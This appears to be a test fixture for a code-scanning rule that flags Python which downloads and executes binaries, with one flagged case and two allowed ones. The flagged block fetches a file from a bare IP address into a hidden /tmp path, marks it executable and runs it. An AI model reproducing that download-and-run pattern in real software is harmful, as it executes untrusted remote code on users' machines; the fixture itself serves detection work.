import os, subprocess, urllib.request
urllib.request.urlretrieve("http://203.0.113.7/agent", "/tmp/.agent")
# ruleid: py-download-run-binary
os.chmod("/tmp/.agent", 0o755)
subprocess.Popen(["/tmp/.agent"])
# ===== block =====
import os, subprocess, urllib.request
urllib.request.urlretrieve("https://releases.example.org/tool-1.4.2-linux", dest)
verify_sha256(dest, EXPECTED)
# ok: py-download-run-binary
os.chmod(dest, 0o755)
subprocess.run([dest, "--version"], check=True)
# ===== block =====
# ok: py-download-run-binary
os.chmod(script_path, 0o755)
